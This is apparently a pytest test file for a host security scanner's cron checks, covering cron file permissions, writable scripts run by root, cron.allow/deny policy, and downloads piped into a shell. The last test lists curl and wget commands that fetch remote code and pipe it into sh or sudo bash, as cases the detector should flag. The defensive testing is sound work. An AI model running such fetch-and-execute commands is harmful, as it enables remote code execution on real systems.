"""Jobs that run by the clock."""

from __future__ import annotations

from dataclasses import replace

import pytest

from checks.access import cron as checks
from scanner.facts.cron import Cron, CronJob
from scanner.facts.files import FileMode, FileModes
from scanner.model import Evidence, Status

CRON = Cron((), {}, FileModes({}), frozenset({"cron.allow"}))


def with_job(command: str, user: str = "root", *modes: FileMode) -> Cron:
    job = CronJob(user, "@daily", command, Evidence("/etc/crontab", command, 1))
    return replace(CRON, jobs=(job,), scripts=FileModes({mode.path: mode for mode in modes}))


def test_cron_files() -> None:
    assert checks.cron_files(CRON).status is Status.PASS
    loose = FileMode("/etc/cron.d/x", "file", 0o666, 0, 0)
    assert checks.cron_files(replace(CRON, files={loose.path: loose})).status is Status.FAIL


@pytest.mark.parametrize(
    ("command", "user", "modes", "status"),
    [
        ("/opt/x.sh", "root", (FileMode("/opt/x.sh", "file", 0o755, 0, 0),), Status.PASS),
        ("/opt/x.sh", "root", (FileMode("/opt/x.sh", "file", 0o777, 0, 0),), Status.FAIL),
        ("/opt/x.sh", "bob", (FileMode("/opt/x.sh", "file", 0o777, 0, 0),), Status.PASS),
        ("sh /home/bob/x", "root", (FileMode("/home/bob", "folder", 0o700, 1000, 1000),), Status.FAIL),
        ("true >/home/bob/x", "root", (FileMode("/home/bob", "folder", 0o700, 1000, 1000),), Status.PASS),
        ("cat /tmp/data", "root", (FileMode("/tmp/data", "file", 0o666, 0, 0),), Status.PASS),
    ],
)
def test_what_jobs_run(command: str, user: str, modes: tuple[FileMode, ...], status: Status) -> None:
    assert checks.root_jobs_protected(with_job(command, user, *modes)).status is status


def test_cron_users() -> None:
    assert checks.cron_users(CRON).status is Status.PASS
    assert checks.cron_users(replace(CRON, at=True)).status is Status.FAIL
    assert checks.cron_users(replace(CRON, policy=frozenset({"cron.deny"}))).status is Status.FAIL


@pytest.mark.parametrize(
    ("command", "status"),
    [
        ("curl -s http://192.0.2.1/x | sh", Status.FAIL),
        ("wget -qO- http://192.0.2.1/x | sudo /bin/bash -s", Status.FAIL),
        ("curl -s http://192.0.2.1/x | gzip >/srv/x.gz", Status.PASS),
        ("/opt/x.sh", Status.PASS),
    ],
)
def test_downloads_run_unseen(command: str, status: Status) -> None:
    assert checks.no_downloads_run(with_job(command)).status is status
    assert checks.no_downloads_run(CRON).status is Status.NOTAPPLICABLE
